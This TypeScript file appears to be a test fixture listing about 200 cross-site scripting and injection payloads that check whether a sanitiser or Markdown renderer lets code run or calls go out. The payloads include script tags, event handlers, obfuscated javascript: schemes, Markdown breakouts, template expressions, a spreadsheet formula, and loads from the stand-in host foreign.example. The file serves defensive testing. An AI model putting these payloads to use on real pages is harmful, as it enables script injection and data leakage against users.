import { shareOf } from '#src/testing/tier.ts'

/** Every payload that comes to run calls this with its number. */
export const ALARM = 'alarmOfPayload'
/** Every payload that calls out calls there. */
export const FOREIGN = 'foreign.example'

const call = `${ALARM}(1)`
const url = `https://${FOREIGN}/x`

const scripts = [
  `<script>${call}</script>`,
  `<script src=${url}></script>`,
  `<svg><script>${call}</script></svg>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
]

const handlers = [
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x></svg>`,
  `<video src=${url} onerror=${call} autoplay></video>`,
  `<audio src=${url} onerror=${call}></audio>`,
  `<video><source onerror=${call}></video>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<image src=${url} onerror=${call}>`,
  `<xss onpointerenter=${call} style=position:fixed;inset:0>x</xss>`,
]

const loads = [
  `<img src=${url}>`,
  `<svg><use href="${url}#a"/></svg>`,
  `<iframe src=${url}></iframe>`,
  `<object data=${url}></object>`,
  `<embed src=${url}>`,
  `<video poster=${url}></video>`,
  `<table background=${url}><td background=${url}>x</table>`,
  `<input type=image src=${url}>`,
]

const documentParts = [
  `<link rel=stylesheet href=${url}>`,
  `<link rel=prefetch href=${url}>`,
  `<link rel=dns-prefetch href=//${FOREIGN}>`,
  `<link rel=preconnect href=//${FOREIGN}>`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<base href=${url}>`,
]

const styles = [
  `<style>@import '${url}';*{background:url(${url})}</style>`,
  `<div style="background:url(${url})">x</div>`,
]

const leads = [
  `<form action=${url}><button formaction="javascript:${call}">x</button></form>`,
  `<a href="javascript:${call}">x</a>`,
  `<a ping=${url} href=/>x</a>`,
]

const parsers = [
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
]

const scriptSchemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  `&#106;avascript:${call}`,
  `javascript&colon;${call}`,
  `javascript://x/%0a${call}`,
  `vbscript:${call}`,
]

const dataSchemes = [
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGFybU9mUGF5bG9hZCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${call}>`,
]

const otherSchemes = [
  `file:///etc/passwd`,
  `blob:${url}`,
  `view-source:${url}`,
  `intent://${FOREIGN}#Intent;end`,
]

const bareAddresses = [
  `//${FOREIGN}/x`,
  `\\\\${FOREIGN}\\x`,
  `/\\${FOREIGN}/x`,
  `/settings?forget=everything`,
]

const forms = [
  (to: string) => `[x](${to})`,
  (to: string) => `[x](<${to}>)`,
  (to: string) => `<${to}>`,
  (to: string) => `[x]\n\n[x]: ${to}`,
]

/** Every address in every form, and in the form at `first` to begin with. */
function links(addresses: readonly string[], first: number): string[] {
  const inTurn = [...forms.slice(first), ...forms.slice(0, first)]
  return inTurn.flatMap((form) => addresses.map(form))
}

const images = [
  `![x](${url})`,
  `![x](${url} "t")`,
  `![x][i]\n\n[i]: ${url}`,
  `[![x](${url})](${url})`,
  `![x](data:image/svg+xml,<svg onload=${call}>)`,
  `![x](${url}"onerror="${call})`,
  `![x" onerror="${call}](${url})`,
]

const markdownLinks = [
  `[x](${url}"onmouseover="${call})`,
  `[x](${url} "t\\" onclick=\\"${call}")`,
  `[x](https://user:pass@${FOREIGN}/)`,
  `www.${FOREIGN}/x`,
  `${url}?q=${'a'.repeat(80)}`,
  `<${url}>`,
  `mailto:a@${FOREIGN}?body=x`,
]

const blocks = [
  `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  `\`\`\`" onclick=${call}\nx\n\`\`\``,
  `<!-- --><img src=x onerror=${call}>`,
  `# <img src=x onerror=${call}>`,
  `| <img src=x onerror=${call}> |\n|:-:|\n| ![x](${url}) |`,
  `- [x] <script>${call}</script>`,
  `[^1]\n\n[^1]: ![x](${url})`,
  `**<b onmouseover=${call}>x</b>**`,
  `\`<img src=x onerror=${call}>\``,
]

const expressions = [
  call,
  `;${call};//`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
]

const names = [
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `__proto__`,
  `constructor`,
  `toString`,
]

const cells = [`=HYPERLINK("${url}")`, `@import url(${url});`, `url(${url})`, `expression(${call})`]

const escapes = [
  `\u2028${call}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
]

const openings = [
  '">',
  ' ',
  '"',
  "'",
  '`',
  "'>",
  '-->',
  ']]>',
  '*/',
  '\\"',
  '</p>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '{{',
  '${',
  '\n\n',
  '\0',
]

/** Texts of one class try the same thing; the first of each is the one that stands for it. */
const classes: readonly (readonly string[])[] = [
  scripts,
  handlers,
  loads,
  documentParts,
  styles,
  leads,
  parsers,
  links(scriptSchemes, 0),
  links(dataSchemes, 1),
  links(otherSchemes, 2),
  links(bareAddresses, 3),
  images,
  markdownLinks,
  blocks,
  expressions,
  names,
  cells,
  escapes,
  openings.map((opening) => `${opening}<img src=x onerror=${call}>`),
  openings.map((opening) => `${opening} onmouseover=${call} x=`),
]

/** 200 texts that try to run code, to call out, or to become elements of the page. */
export const payloads: readonly string[] = classes.flat()

/** The payloads that this run tries: of each class the first, or all. */
export const triedPayloads: readonly string[] = shareOf({
  quick: classes.flatMap((one) => one.slice(0, 1)),
  full: payloads,
  soak: payloads,
})
